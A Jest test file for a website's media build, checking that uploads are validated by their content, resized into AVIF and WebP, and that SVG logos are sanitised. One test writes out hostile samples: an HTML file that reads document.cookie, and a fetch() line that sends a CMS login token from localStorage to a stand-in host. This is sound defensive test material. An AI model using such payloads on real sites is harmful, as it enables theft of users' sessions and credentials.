/**
 * @jest-environment node
 */
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { buildMedia, MediaError } from './buildMedia';
import { readManifest } from './photo';
import { inspectUpload } from './uploads';

/** A small photo drawn at test time: a warm disc on a navy ground. */
const photo = (format: 'png' | 'jpeg' | 'webp' | 'avif', width = 900, height = 600) =>
  sharp({ create: { width, height, channels: 3, background: '#1d3557' } })
    .composite([{ input: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><circle cx="${width / 3}" cy="${height / 2}" r="${height / 3}" fill="#f5b700"/></svg>`) }])
    .toFormat(format)
    .toBuffer();

let root: string;
let uploads: string;
beforeEach(() => {
  root = mkdtempSync(path.join(os.tmpdir(), 'media-'));
  uploads = path.join(root, 'content', 'uploads');
  mkdirSync(uploads, { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const build = () => buildMedia({ contentDir: path.join(root, 'content'), root });
const refusal = async () => {
  const error = await build().then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(MediaError);
  return (error as MediaError).message;
};

describe('what the media folder accepts, judged by the bytes', () => {
  it.each(['png', 'jpeg', 'webp', 'avif'] as const)('accepts a %s photo and reads its size', async (format) => {
    const name = `photo.${format === 'jpeg' ? 'jpg' : format}`;
    expect(inspectUpload(await photo(format), name, { svg: false })).toMatchObject({ width: 900, height: 600 });
  });

  it('refuses an HTML page or a script renamed .png, naming the file', async () => {
    writeFileSync(path.join(uploads, 'team.png'), '<!doctype html><html><script>alert(document.cookie)</script></html>');
    writeFileSync(path.join(uploads, 'logo.png'), 'fetch("https://elsewhere.example/?" + localStorage.getItem("sveltia-cms.user"))');
    const message = await refusal();
    expect(message).toMatch(/content\/uploads\/team\.png: is not an image by its content/);
    expect(message).toMatch(/content\/uploads\/logo\.png: is not an image by its content/);
    expect(existsSync(path.join(root, 'public', 'art', 'uploads', 'team.png'))).toBe(false);
  });

  it('refuses any other kind of file, and a photo whose name says another type', async () => {
    writeFileSync(path.join(uploads, 'brief.pdf'), '%PDF-1.7\n');
    writeFileSync(path.join(uploads, 'shot.png'), await photo('jpeg'));
    const message = await refusal();
    expect(message).toMatch(/content\/uploads\/brief\.pdf: is not an image/);
    expect(message).toMatch(/content\/uploads\/shot\.png: is a JPEG image named \.png; name it \.jpg/);
  });

  it('allows SVG only where the field allows it (client logos)', () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 80"><rect width="200" height="80"/></svg>');
    expect(inspectUpload(svg, 'logo.svg', { svg: true })).toMatchObject({ type: 'svg', width: 200, height: 80 });
    expect(inspectUpload(svg, 'logo.svg', { svg: false })).toEqual({ problem: expect.stringMatching(/only a client logo/) });
    expect(inspectUpload(svg, 'logo.png', { svg: true })).toEqual({ problem: expect.stringMatching(/name it \.svg/) });
  });
});

describe('what the build serves for the uploads', () => {
  // AVIF encoding takes a few seconds on a shared machine.
  jest.setTimeout(30_000);

  it('writes AVIF and WebP at each width, a share JPEG and a placeholder, never wider than the upload', async () => {
    writeFileSync(path.join(uploads, 'team.jpg'), await photo('jpeg', 900, 500));
    const report = await build();
    expect(report.built).toEqual(['team.jpg']);
    const served = path.join(root, 'public', 'art', 'uploads');
    const record = readManifest(root)['team.jpg']!;
    expect(record).toMatchObject({ width: 900, height: 500, widths: [400, 800, 900] });
    for (const w of record.widths)
      for (const format of ['avif', 'webp'] as const) {
        const meta = await sharp(readFileSync(path.join(served, 'sizes', 'team.jpg', `${w}.${format}`))).metadata();
        expect({ width: meta.width, format: meta.format }).toEqual({ width: w, format: format === 'avif' ? 'heif' : 'webp' });
      }
    expect((await sharp(path.join(served, 'sizes', 'team.jpg', 'share.jpg')).metadata()).format).toBe('jpeg');
    expect(record.placeholder?.fills).toHaveLength(record.placeholder!.columns * record.placeholder!.rows);
    // Unchanged uploads are not encoded again.
    expect((await build()).reused).toEqual(['team.jpg']);
  });

  it('serves the sanitised copy of an SVG logo, and tells the editor what it removed', async () => {
    copyFileSync(path.join(__dirname, 'fixtures', 'hostile-logo.svg'), path.join(uploads, 'acme.svg'));
    const report = await build();
    const served = readFileSync(path.join(root, 'public', 'art', 'uploads', 'acme.svg'), 'utf8');
    expect(served).not.toMatch(/<script|onload|foreignObject|javascript:/i);
    expect(served).toContain('<rect id="mark"');
    expect(report.warnings).toEqual([expect.stringMatching(/^content\/uploads\/acme\.svg: the site serves it without .*<script>/)]);
  });

  it('removes what it served for an upload that is gone', async () => {
    writeFileSync(path.join(uploads, 'team.webp'), await photo('webp', 500, 500));
    await build();
    rmSync(path.join(uploads, 'team.webp'));
    await build();
    expect(existsSync(path.join(root, 'public', 'art', 'uploads', 'team.webp'))).toBe(false);
    expect(existsSync(path.join(root, 'public', 'art', 'uploads', 'sizes', 'team.webp'))).toBe(false);
  });
});
